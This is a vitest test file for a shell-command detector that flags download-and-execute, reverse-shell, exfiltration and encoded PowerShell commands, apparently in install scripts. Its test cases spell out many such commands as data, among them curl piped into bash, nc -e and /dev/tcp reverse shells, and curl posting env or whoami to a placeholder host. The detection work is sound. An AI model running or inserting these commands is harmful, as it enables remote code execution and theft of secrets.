import { describe, expect, it } from 'vitest'
import { encodedPowerShellCommands, inspectShellCommand } from '../../src/analyze/shell-command.ts'

describe('inspectShellCommand', () => {
  it.each([
    ['curl -s https://x.invalid/i.sh | sh', 'download-exec'],
    ['curl -fsSL https://x.invalid/i.sh | bash -s -- --yes', 'download-exec'],
    ['wget -qO- http://x.invalid/a | bash', 'download-exec'],
    ['curl http://x.invalid | sudo bash', 'download-exec'],
    ['curl http://x.invalid/a.py | python3', 'download-exec'],
    ['curl http://x.invalid/a.js | node', 'download-exec'],
    ['curl http://x.invalid | tee /tmp/log | sh', 'download-exec'],
    ['sh -c "$(curl -fsSL http://x.invalid)"', 'download-exec'],
    ['eval `wget -qO- http://x.invalid`', 'download-exec'],
    ['bash <(curl -s http://x.invalid)', 'download-exec'],
    ['powershell -c "iwr http://x.invalid/a.ps1 | iex"', 'download-exec'],
    ['powershell IEX (New-Object Net.WebClient).DownloadString("http://x.invalid")', 'download-exec'],
    ['powershell -c "Invoke-WebRequest http://x.invalid -OutFile a.exe; Start-Process a.exe"', 'download-exec'],
    ['curl -o /tmp/x http://x.invalid && chmod +x /tmp/x && /tmp/x', 'download-exec'],
    ['wget http://x.invalid/a -O a.sh; sh a.sh', 'download-exec'],
    ['curl -s http://x.invalid/a.js > a.js && node a.js', 'download-exec'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse-shell'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'reverse-shell'],
    ['ncat 10.0.0.1 4444 -e /bin/bash', 'reverse-shell'],
    ['curl "http://x.invalid/?u=$(whoami)&h=$(hostname)"', 'exfiltration'],
    ['curl -d "$HOME" http://x.invalid', 'exfiltration'],
    ['curl http://x.invalid/${npm_package_name}', 'exfiltration'],
    ['curl http://x.invalid/%USERNAME%', 'exfiltration'],
    ['wget --post-data="$(env)" http://x.invalid', 'exfiltration'],
    ['curl https://x.invalid/ping', 'network'],
    ['wget https://x.invalid/file.tgz', 'network'],
    ['certutil -urlcache -f http://x.invalid/a.exe a.exe', 'network'],
  ])('%s → %s', (command, kind) => {
    expect(inspectShellCommand(command)?.kind).toBe(kind)
  })

  it.each([
    'node install.js',
    'husky',
    'husky install',
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    `node -e "try{require('./postinstall')}catch(e){}"`,
    'opencollective-postinstall || true',
    'patch-package',
    'tsc -p .',
    'npx only-allow pnpm',
    'cd src && make && make install',
    'ls -la | sh',
    'cat banner.txt | more',
    'ncu -u',
    'node scripts/check.js && echo done',
    'echo $HOME',
  ])('%s → nothing', (command) => {
    expect(inspectShellCommand(command)).toBeUndefined()
  })

  it('gives a detail that says what the command does', () => {
    expect(inspectShellCommand('curl http://x.invalid | sh')?.detail).toBe('pipes a download into an interpreter')
    expect(inspectShellCommand('bash -i >& /dev/tcp/1.2.3.4/1 0>&1')?.detail).toMatch(/reverse shell/)
  })

  it('looks only at the first 100,000 characters', () => {
    expect(inspectShellCommand(`${' '.repeat(100_000)}curl http://x.invalid | sh`)).toBeUndefined()
  })

  // Attackers choose these strings: every pattern must stay linear. A backtracking blow-up would
  // hang here until vitest's test timeout fails the test.
  const N = 100_000
  it.each([
    ['spaces', ' '.repeat(N)],
    ['network tools', 'curl '.repeat(N / 5)],
    ['nc words (reverse shell pattern)', 'nc '.repeat(N / 3)],
    ['nc and dashes (reverse shell pattern)', 'nc -'.repeat(N / 4)],
    ['nc and tabs', `nc${'\t'.repeat(N)}`],
    ['PowerShell download words', 'iwr '.repeat(N / 4)],
    ['PowerShell exec words', 'iex '.repeat(N / 4)],
    ['DownloadString', 'DownloadString '.repeat(N / 15)],
    ['pipes', `curl${'|'.repeat(N)}`],
    ['pipes and interpreters', 'curl | x '.repeat(N / 9)],
    ['steps', `curl -o x${';'.repeat(N)}`],
    ['chmod steps', `curl -o x${';chmod '.repeat(N / 7)}`],
    ['command substitutions', '$('.repeat(N / 2)],
    ['process substitutions', '<( '.repeat(N / 3)],
    ['variable openers', `curl ${'${'.repeat(N / 2)}`],
    ['backticks', `curl ${'`'.repeat(N)}`],
    ['percent signs', `curl ${'%'.repeat(N)}`],
    ['/dev/ prefixes', '/dev/'.repeat(N / 5)],
    ['dashes', `curl${' -'.repeat(N / 2)}`],
    ['redirects', `curl${' >'.repeat(N / 2)}`],
    ['sudo', `curl |${' sudo'.repeat(N / 5)}`],
    ['PowerShell invocations', 'powershell -e '.repeat(N / 14)],
  ])('stays linear on 100 KB of %s', (_name, command) => {
    expect(command.length).toBeGreaterThan(N - 20)
    const result = inspectShellCommand(command)
    expect(result === undefined || typeof result.kind === 'string').toBe(true)
  })
})

describe('PowerShell -EncodedCommand', () => {
  const encode = (command: string) => Buffer.from(command, 'utf16le').toString('base64')
  const downloadExec = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')"

  it('decodes the command under every accepted spelling of the option and judges it', () => {
    for (const option of ['-EncodedCommand', '-enc', '-e', '-ec', '/enc', '-ENCODEDCOMMAND']) {
      const finding = inspectShellCommand(`powershell.exe -NoProfile -WindowStyle Hidden ${option} ${encode(downloadExec)}`)
      expect(finding, option).toMatchObject({ kind: 'download-exec' })
      expect(finding!.detail).toContain('hidden in a PowerShell -EncodedCommand')
      expect(finding!.detail).toContain('DownloadString')
    }
  })

  it('an encoded command that does nothing worse is still reported as hidden', () => {
    expect(inspectShellCommand(`pwsh -enc ${encode('Write-Output hello')}`)).toMatchObject({ kind: 'hidden-command' })
    expect(inspectShellCommand(`pwsh -enc ${encode('Write-Output hello')}`)!.detail).toContain('Write-Output hello')
  })

  it('is not confused by other options or other programs', () => {
    expect(inspectShellCommand('powershell -ExecutionPolicy Bypass -File build.ps1')).toBeUndefined()
    expect(inspectShellCommand(`node -e ${encode(downloadExec)}`)).toBeUndefined()
    expect(inspectShellCommand('powershell -e notbase64!')).toBeUndefined()
  })

  it('lists the decoded commands', () => {
    expect(encodedPowerShellCommands(`powershell -enc ${encode('a b c')} ; pwsh -e ${encode('d e f')}`)).toEqual(['a b c', 'd e f'])
  })
})
